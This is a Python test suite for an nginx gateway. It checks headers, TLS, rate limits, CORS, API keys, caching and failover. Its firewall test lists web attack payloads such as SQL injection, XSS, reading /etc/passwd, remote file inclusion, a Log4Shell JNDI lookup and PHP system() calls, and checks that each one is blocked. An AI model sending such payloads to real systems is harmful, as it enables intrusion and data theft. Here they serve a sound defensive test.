# SPDX-License-Identifier: GPL-3.0-or-later
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The gateway as its users see it."""

from __future__ import annotations

import json
import time

import pytest
from harness.platform import wait

testinfra_hosts = ["gateway"]
TRUST = "/root/authorities.pem"
CURL = f"curl -s --max-time 60 --cacert {TRUST} --resolve demo.test:443:127.0.0.1 --resolve demo.test:80:127.0.0.1"
# The static site borrows a certificate without its name.
PAGES = "curl -sk --max-time 60 --resolve pages.demo.test:443:127.0.0.1"
EVERYWHERE = ("strict-transport-security", "x-content-type-options", "x-frame-options", "referrer-policy", "content-security-policy")


def head(host, path, options=""):
    """Return status line and headers of one answer, names in lower case; a header that comes twice is a list of two."""
    lines = host.check_output(f"{CURL} -o /dev/null -D - {options} https://demo.test{path}").split("\r\n")
    headers: dict[str, list[str]] = {}
    for line in lines[1:]:
        name, found, value = line.partition(": ")
        if found:
            headers.setdefault(name.lower(), []).append(value)
    return int(lines[0].split()[1]), headers


def codes(host, requests, curl=CURL):
    """Return the status of each request, options and address, which are sent by one curl."""
    each = f"{curl.removeprefix('curl')} -o /dev/null -w '%{{http_code}} ' "
    return host.check_output(f"curl{each}{f' --next{each}'.join(requests)}").split()


def test_request_reaches_the_application(host):
    answer = json.loads(host.check_output(f"{CURL} -H 'X-Forwarded-For: 203.0.113.9' https://demo.test/hello"))
    headers = answer["headers"]
    assert answer["path"] == "/hello"
    assert (headers["host"], headers["x-forwarded-proto"]) == ("demo.test", "https")
    assert headers["x-forwarded-for"] == headers["x-real-ip"] == "127.0.0.1", "a forged client address was passed on"
    assert headers.get("connection", "") != "upgrade"


@pytest.mark.parametrize(("path", "status"), [("/", 200), ("/status/404", 404), ("/status/502", 502), ("/assets/x.css", 200)])
def test_security_headers_are_on_every_answer_once(host, path, status):
    seen, headers = head(host, path)
    assert seen == status
    assert {name: len(headers.get(name, [])) for name in EVERYWHERE} == dict.fromkeys(EVERYWHERE, 1)
    assert headers["server"] == ["nginx"]


def test_application_may_set_its_own_policy(host):
    dummy, headers = head(host, "/own-policy")
    assert headers["content-security-policy"] == ["default-src 'self'"]
    assert headers["x-frame-options"] == ["DENY"]


def test_static_files_have_one_cache_header(host):
    assert head(host, "/assets/app.js")[1]["cache-control"] == ["public, max-age=31536000, immutable"]
    status, headers = head(host, "/assets/status/404")
    assert (status, headers.get("cache-control")) == (404, None)


def test_error_page_for_people_and_programs(host):
    assert "<h1>" in host.check_output(f"{CURL} -H 'Accept: text/html' https://demo.test/status/502")
    assert json.loads(host.check_output(f"{CURL} https://demo.test/status/502"))["retry"] is True


def test_http_only_redirects(host):
    seen = host.check_output(f"{CURL} -o /dev/null -w '%{{http_code}} %{{redirect_url}}' http://demo.test/a?b=c")
    assert seen == "301 https://demo.test/a?b=c"


def test_unknown_names_get_nothing(host):
    nothing = host.run("curl -s -i http://127.0.0.1/ -H 'Host: other.test'")
    assert (nothing.rc in (52, 56), nothing.stdout) == (True, "")
    assert host.run("curl -sk --resolve other.test:443:127.0.0.1 https://other.test/").rc == 35
    assert host.run("curl -sk https://127.0.0.1/").rc == 35


def handshake(host, options):
    command = f"openssl s_client -connect 127.0.0.1:443 -servername demo.test -CAfile {TRUST} {options} </dev/null 2>&1"
    return host.run(command).stdout


def test_tls_versions_and_ciphers(host):
    assert "Cipher is (NONE)" in handshake(host, "-tls1_1 -cipher ALL:@SECLEVEL=0")
    assert "Verify return code: 0" in handshake(host, "-tls1_2")
    assert "Verify return code: 0" in handshake(host, "-tls1_3")
    assert "Cipher is (NONE)" in handshake(host, "-tls1_2 -cipher AES128-SHA:ECDHE-ECDSA-AES128-SHA256")


def test_post_quantum_key_exchange_where_openssl_has_it(host):
    if host.system_info.release.startswith("12"):
        pytest.skip("OpenSSL 3.0 of Debian 12 has no X25519MLKEM768")
    assert "X25519MLKEM768" in handshake(host, "-tls1_3 -groups X25519MLKEM768")


def test_http2_is_spoken(host):
    assert host.check_output(f"{CURL} -o /dev/null -w '%{{http_version}}' https://demo.test/") == "2"


def test_limit_answers_429(host):
    codes = host.check_output(f"{CURL} -o /dev/null -w '%{{http_code}} ' 'https://demo.test/narrow/[1-12]'").split()
    assert codes[:5] == ["200"] * 5
    assert codes.count("429") >= 5
    status, headers = head(host, "/narrow/again")
    assert status == 429
    assert headers["retry-after"] == ["60"]
    assert [len(headers[name]) for name in EVERYWHERE] == [1] * len(EVERYWHERE)


def test_login_limits_writes_only(host):
    get = host.check_output(f"{CURL} -o /dev/null -w '%{{http_code}} ' 'https://demo.test/login?[1-12]'").split()
    post = host.check_output(f"{CURL} -o /dev/null -w '%{{http_code}} ' -X POST -d x=1 'https://demo.test/login?[1-12]'").split()
    assert set(get) == {"200"}
    assert post.count("429") >= 5


def test_a_body_that_is_too_large(host):
    assert codes(host, ["--http1.1 -H 'Content-Length: 99999999' -d x https://demo.test/"]) == ["413"]


def test_allow_list(host):
    assert head(host, "/office/")[0] == 403


def test_an_old_answer_is_served_while_a_new_one_is_fetched(host):
    wait("an answer that is too old", lambda: head(host, "/cached/brief/")[1]["x-cache"] == ["STALE"], 120)


def test_cache_serves_the_second_read_and_not_those_of_users(host):
    path = f"/cached/{time.time_ns()}"
    assert head(host, path)[1]["x-cache"] == ["MISS"]
    wait("an answer from the cache", lambda: head(host, path)[1]["x-cache"] == ["HIT"], 60)
    assert head(host, path, "-H 'Authorization: Bearer x'")[1]["x-cache"] == ["BYPASS"]


def test_websocket_passes(host):
    assert host.check_output("python3 /usr/local/bin/websocket.py").split("\n") == ["HTTP/1.1 101 Switching Protocols", "echo-me"]


def test_files_of_a_static_site(host):
    site = "https://pages.demo.test"
    wanted = {
        f"{site}/": "200",
        f"{site}/some/view/of/the/application": "200",
        f"{site}/guide": "301",
        f"{site}/guide/": "200",
        f"{site}/assets/app.3f2a.js": "200",
        f"{site}/assets/app.before.js": "404",
        f"{site}/plain/nothing": "404",
        f"{site}/.hidden": "404",
        f"{site}/.well-known/security.txt": "200",
        f"-X POST {site}/": "405",
        f"{site}/api/": "200",
    }
    assert dict(zip(wanted, codes(host, wanted, PAGES), strict=True)) == wanted
    assert "Home" in host.check_output(f"{PAGES} {site}/some/view/of/the/application")
    assert "beforehand" in host.check_output(f"{PAGES} -H 'Accept-Encoding: gzip' {site}/assets/app.3f2a.js")
    answers = host.check_output(f"{PAGES} -D - -o /dev/null {site}/ -o /dev/null {site}/assets/app.3f2a.js").lower()
    assert [line for line in answers.splitlines() if line.startswith("cache-control")] == [
        "cache-control: no-cache",
        "cache-control: public, max-age=31536000, immutable",
    ]
    assert "<h1>Nothing here</h1>" in host.check_output(f"{PAGES} -H 'Accept: text/html' {site}/plain/nothing")


def test_other_sites_may_use_this_one_if_they_were_named(host):
    def allowed(origin, options="", path="/"):
        status, headers = head(host, path, f"-H 'Origin: {origin}' {options}")
        return status, headers.get("access-control-allow-origin"), headers.get("access-control-allow-methods", [""])[0]

    ask = "-X OPTIONS -H 'Access-Control-Request-Method: PUT'"
    assert allowed("https://app.test", ask) == (204, ["https://app.test"], "GET, HEAD, POST, PUT, PATCH, DELETE")
    assert allowed("https://app.test", ask, "/partners/")[0] == 204, "a browser asks before it shows a key"
    assert allowed("https://other.test", ask) == (204, None, "")
    assert allowed("https://a.demo.test") == (200, ["https://a.demo.test"], "")
    assert allowed("https://a.demo.test.other.test") == (200, None, "")
    assert head(host, "/", "-H 'Origin: https://app.test'")[1]["access-control-allow-credentials"] == ["true"]


def test_keys_of_clients(host):
    path, folder = "https://demo.test/partners/x", "/etc/uptier/api-keys/partners"
    key = "-H 'X-API-Key: acme.0123456789abcdef0123456789abcdef'"
    wrong = "-H 'X-API-Key: acme.1123456789abcdef0123456789abcdef'"
    assert codes(host, [path, f"{wrong} {path}", f"{key} -X DELETE {path}"]) == ["401", "401", "405"]
    headers = json.loads(host.check_output(f"{CURL} {key} {path}"))["headers"]
    assert headers["x-api-key-name"] == "acme"
    assert "x-api-key" not in headers, "the key itself was passed on"
    assert "x-api-key-name" not in json.loads(host.check_output(f"{CURL} -H 'X-API-Key-Name: acme' https://demo.test/"))["headers"]
    # A key that comes is good at once, one that goes is not: without a reload.
    other = "beta.0123456789abcdef0123456789abcdef"
    host.check_output(f"touch {folder}/$(printf %s {other} | sha1sum | cut -c1-40)")
    try:
        assert codes(host, [f"-H 'X-API-Key: {other}' {path}"]) == ["200"]
    finally:
        host.check_output(f"rm {folder}/$(printf %s {other} | sha1sum | cut -c1-40)")
    assert codes(host, [f"-H 'X-API-Key: {other}' {path}"]) == ["401"]
    # Each key has a limit of its own; who has none takes nothing from it.
    assert codes(host, [f"{key} {path}"] * 8).count("429") >= 3
    logged = wait("the line in the log", lambda: host.run("grep '/partners/.*429' /var/log/nginx/access.log | tail -n 1").stdout, 60)
    assert json.loads(logged)["api_key"] == "acme"
    assert "0123456789abcdef" not in logged


ATTACKS = [
    "?id=1%27%20OR%20%271%27=%271",
    "?id=1%20UNION%20SELECT%20password%20FROM%20users",
    "?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "?file=../../../../etc/passwd",
    "?page=http://198.51.100.9/shell.txt%3Fcmd=id",
    "?cmd=%3Bcat%20/etc/passwd",
    "?x=$%7Bjndi:ldap://198.51.100.9/a%7D",
    "?x=%3C%3Fphp%20system(%27id%27)%3B",
]
ORDINARY = [
    "'https://demo.test/guarded/?q=tom+%26+jerry&page=2&sort=-created_at'",
    "'https://demo.test/guarded/users/42/orders?from=2026-01-01&to=2026-02-01'",
    '-H \'Content-Type: application/json\' -d \'{"title": "Buy milk & eggs", "tags": ["home", "5 > 4"]}\' https://demo.test/guarded/',
    "-H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln' -b 'session=a1b2c3; theme=dark' https://demo.test/guarded/",
    "-d 'name=Ann+O%27Neill&city=S%C3%A3o+Paulo&note=select+a+seat' https://demo.test/guarded/",
]


def test_application_firewall(host):
    if host.system_info.release.startswith("12"):
        assert codes(host, ["https://demo.test/guarded/"]) == ["200"]
        return
    attacks = {attack: f"'https://demo.test/guarded/{attack}'" for attack in ATTACKS}
    body = "-H 'Content-Type: application/json' -d '{\"id\": \"1 UNION SELECT password FROM users\"}' https://demo.test/guarded/"
    seen = dict(zip([*attacks, "body"], codes(host, [*attacks.values(), body]), strict=True))
    assert {attack for attack, status in seen.items() if status != "403"} == set()
    assert codes(host, ORDINARY) == ["200"] * len(ORDINARY), "ordinary requests were taken for attacks"
    # Detected, written down, and answered.
    marked = f"https://demo.test/watched/{time.time_ns()}"
    assert codes(host, [f"'{marked}?q=%3Cscript%3Ealert(1)%3C/script%3E'"]) == ["200"]
    noticed = f"grep -c '{marked.rpartition('/')[2]}.*9411' /var/log/nginx/waf/audit.log"
    wait("the line of the firewall", lambda: host.run(noticed).stdout.strip() not in ("", "0"), 60)


def test_clients_come_through_the_proxies(host, lab):
    around = lab.addresses[host.check_output("hostname")]
    assert codes(host, [f"--connect-to demo.test:443:{around}:443 https://demo.test/"]) == ["403"]
    through = f"{CURL} --interface 127.0.0.9 -H 'X-Forwarded-For: 198.51.100.7' https://demo.test/"
    assert json.loads(host.check_output(through))["headers"]["x-real-ip"] == "198.51.100.7"


def test_maintenance_by_a_file(host):
    host.check_output("touch /var/lib/uptier/maintenance/sample")
    try:
        assert head(host, "/")[0] == 503
    finally:
        host.check_output("rm /var/lib/uptier/maintenance/sample")
    assert head(host, "/")[0] == 200


def test_status_is_for_this_host_only(host, lab):
    assert host.check_output("curl -s http://127.0.0.1:8081/healthz") == "ok"
    assert "Active connections" in host.check_output("curl -s http://127.0.0.1:8081/status")
    address = lab.addresses[host.check_output("hostname")]
    assert host.run(f"curl -s --max-time 60 http://{address}:8081/status").rc == 7


def test_access_log_is_json_without_queries(host):
    host.check_output(f"{CURL} -o /dev/null 'https://demo.test/logged?token=hidden'")
    # The line is written when the client has its answer already.
    line = wait("the line in the log", lambda: host.run("grep /logged /var/log/nginx/access.log | tail -n 1").stdout, 60)
    entry = json.loads(line)
    assert (entry["path"], entry["status"], entry["host"]) == ("/logged", 200, "demo.test")
    assert "hidden" not in line


def test_upstream_without_our_authority_is_not_asked(host):
    """The application host refuses whoever shows no certificate; the gateway refuses a name that is not in the certificate."""
    assert host.run("curl -sk --max-time 60 https://127.0.0.1:8443/").rc in (55, 56)

    # TLS is not plain in the configuration only: the gateway really verifies, or this name would pass. A reload returns before the
    # workers change.
    def status():
        # A worker that is going may end a new connection before it is asked anything, which curl does not try again.
        return host.run(f"{CURL} -o /dev/null -w '%{{http_code}}' https://demo.test/").stdout

    name = "sed -i 's/app {}.internal;/app {}.internal;/' /etc/nginx/conf.d/uptier-upstreams.conf && systemctl reload nginx"
    host.check_output(name.format("app", "other"))
    try:
        wait("the refusal of another name", lambda: status() == "502", 60)
    finally:
        host.check_output(name.format("other", "app"))
    wait("the right name", lambda: status() == "200", 60)


def test_no_get_fails_while_an_application_host_dies(lab):
    gateway, other = lab.host("gw12"), lab.host("gw13")
    # The standard output would come all at once at the end.
    load = f"{CURL} --rate 40/s -o /dev/null -w '%{{stderr}}%{{http_code}} ' 'https://demo.test/load?[1-150]'"

    def codes():
        return gateway.check_output("cat /tmp/codes").split()

    try:
        assert gateway.run(f"(timeout 300 {load} 2>/tmp/codes) >/dev/null & echo started").rc == 0
        wait("the first requests", lambda: len(codes()) >= 20, 120)
        before = len(codes())
        other.check_output("systemctl kill -s KILL upstream")
        wait("the last request", lambda: len(codes()) >= 150, 300)
    finally:
        other.check_output("systemctl restart upstream")
    assert before < 150, "nothing died while there were requests"
    assert codes() == ["200"] * 150
